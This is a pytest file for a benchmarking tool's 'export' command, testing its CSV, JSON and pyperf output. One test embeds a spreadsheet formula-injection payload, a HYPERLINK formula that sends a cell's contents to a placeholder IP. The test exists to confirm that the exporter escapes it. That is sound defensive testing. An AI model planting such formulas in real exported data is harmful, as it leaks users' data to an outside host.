# SPDX-License-Identifier: MIT
"""``iolab export``."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from iolab.store.raw import RawStore, block_key
from iolab.store.tables import write_tables
from iolab_base.files import canonical_json
from tests.support import synthetic
from tests.support.command import ARGV, Iolab
from tests.support.processes import child_environment
from tests.support.results import TARGET, block, write_results


def test_export_of_what_is_no_sweep_is_one_sentence(iolab: Iolab, tmp_path: Path) -> None:
    told = iolab("export", tmp_path, "--root", tmp_path)
    assert (told.code, "no such file; is this a folder of results?" in told.one_line()) == (2, True)
    told = iolab("export", "--canonical", tmp_path, "--root", tmp_path)
    assert (told.code, "holds no finished sweep" in told.one_line()) == (1, True)


def test_export_writes_every_cell(iolab: Iolab, tmp_path: Path, root: Path) -> None:
    store = RawStore(root)
    made = block()
    key = block_key(made, TARGET)
    results = write_results(tmp_path / "results", made.plan)
    store.put(key, block=made, target=TARGET, results=results, run={})
    write_tables(store, [key], {}, root / "sweep")
    told = iolab("export", root / "sweep", "--root", root)
    assert (told.code, told.error, len(told.out.splitlines())) == (0, "", 5)
    told = iolab("export", "--canonical", root / "sweep", "--root", root)
    assert (told.code, told.error, len(told.out.splitlines())) == (0, "", 4)
    assert all(json.loads(line)["iops"] == 3000 for line in told.out.splitlines())


@pytest.mark.parametrize("given", ["iolab-block/1", "iolab-block/99"])
def test_export_of_another_format_is_one_sentence(
    iolab: Iolab, tmp_path: Path, root: Path, given: str
) -> None:
    store = RawStore(root)
    made = block()
    key = block_key(made, TARGET)
    results = write_results(tmp_path / "results", made.plan)
    store.put(key, block=made, target=TARGET, results=results, run={})
    write_tables(store, [key], {}, root / "sweep")
    path = store.folder(key) / "block.json"
    path.chmod(0o644)
    path.write_text(canonical_json({**made.document(), "format": given}))
    told = iolab("export", "--canonical", root / "sweep", "--root", root)
    assert (told.code, told.out) == (1, "")
    assert f"{path}: its format is '{given}', this iolab reads" in told.one_line()


def test_export_writes_archives_for_pyperf(iolab: Iolab, tmp_path: Path) -> None:
    folder = synthetic.write(synthetic.dataset(boots=2), tmp_path / "data")
    told = iolab("export", folder, "--pyperf", tmp_path / "archives")
    sides = ("control", "weight-100", "weight-1000", "weight-3000", "weight-10000")
    names = [f"{kernel}-{side}.json" for kernel in ("6.1", "6.12") for side in sides]
    paths = [tmp_path / "archives" / name for name in names]
    assert (told.code, told.error, told.out.splitlines()) == (0, "", [str(p) for p in paths])
    assert all(json.loads(path.read_text())["benchmarks"] for path in paths)
    told = iolab("export", folder, "--pyperf", tmp_path / "archives", "--json")
    first, second, *_ = json.loads(told.out)
    assert first == {
        "path": str(paths[0]),
        "kernel": "6.1",
        "treatment": "weight",
        "level": "control",
    }
    assert second["level"] == 100
    told = iolab("export", folder, "--canonical", "--pyperf", tmp_path / "archives")
    assert told.code == 2
    assert "two forms of export" in told.one_line()


def test_export_into_a_closed_pipe_leaves_no_traceback(tmp_path: Path) -> None:
    folder = synthetic.write(synthetic.dataset(boots=20), tmp_path / "data")
    with subprocess.Popen(
        [*ARGV, "export", str(folder)],
        env=child_environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        error = process.stderr.read().decode()
    assert "Traceback" not in error
    assert "Exception ignored" not in error


def test_a_spreadsheet_finds_no_formula_in_csv(iolab: Iolab, tmp_path: Path) -> None:
    data = synthetic.dataset(boots=2)
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    cells = data.cells.assign(gate=formula, idle=-1.5)
    folder = synthetic.write(replace(data, cells=cells), tmp_path / "data")
    rows = list(csv.DictReader(io.StringIO(iolab("export", folder).out)))
    assert {row["gate"] for row in rows} == {f"'{formula}"}
    assert {row["idle"] for row in rows} == {"-1.5"}
    # What is no CSV has the text as it is.
    assert {cell["gate"] for cell in json.loads(iolab("export", folder, "--json").out)} == {formula}


def test_export_prints_cells_as_json_or_csv(iolab: Iolab, tmp_path: Path) -> None:
    data = synthetic.dataset(boots=2)
    folder = synthetic.write(data, tmp_path / "data")
    told = iolab("export", folder, "--json")
    cells = json.loads(told.out)
    assert (told.code, told.error, len(cells)) == (0, "", len(data.cells))
    assert [cell["iops"] for cell in cells] == data.cells["iops"].tolist()
    assert {cell["weight"] for cell in cells} == {None, 100, 1000, 3000, 10000}
    told = iolab("export", folder, "--json", "--canonical")
    assert told.code == 2
    assert "--canonical and --json are two forms of export" in told.one_line()
